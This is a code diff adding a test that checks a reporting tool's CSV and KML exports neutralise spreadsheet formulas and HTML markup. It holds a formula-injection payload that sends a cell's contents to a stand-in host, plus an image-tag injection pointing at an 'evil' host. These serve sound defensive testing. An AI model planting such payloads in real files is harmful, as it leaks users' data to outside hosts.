@@ -158,3 +158,21 @@ def test_a_published_reports_records_come_from_its_signed_content(centre: Engine
     violations = from_document(document, "violations")
     assert [r["verdict"] for r in violations.rows] == ["confirmed"]
     assert json.loads(renderer_for("geojson").records(incidents))["features"]
+
+
+def test_text_from_a_feed_or_a_mission_file_is_never_a_formula_or_markup_in_an_export() -> None:
+    from truceline.services.reports.records import Records
+
+    evil = '=HYPERLINK("http://x/?"&A1,"open")'
+    markup = "<img src=http://evil/p.png>\x0b"
+    rows = [{"id": 1, "kind": "explosion", "subtype": None, "start": "2020-11-21T10:00:00Z",
+             "end": "2020-11-21T10:00:00Z", "lat": 40.0, "lon": 46.9, "zone": evil,
+             "count": 1, "actor": markup, "observations": 1}]  # fmt: skip
+    held = Records("incidents", rows, mission_id="demo", mission_name="Demo")
+    table = list(csv.reader(io.StringIO(renderer_for("csv").records(held).decode())))
+    assert table[1][table[0].index("zone")] == "'" + evil
+    assert not any(c.startswith("=") for c in table[1])
+    kml = etree.fromstring(renderer_for("kml").records(held))
+    ns = {"k": "http://www.opengis.net/kml/2.2"}
+    said = kml.findtext(".//k:description", namespaces=ns)
+    assert said is not None and "<img" not in said and "&lt;img" in said and "\x0b" not in said
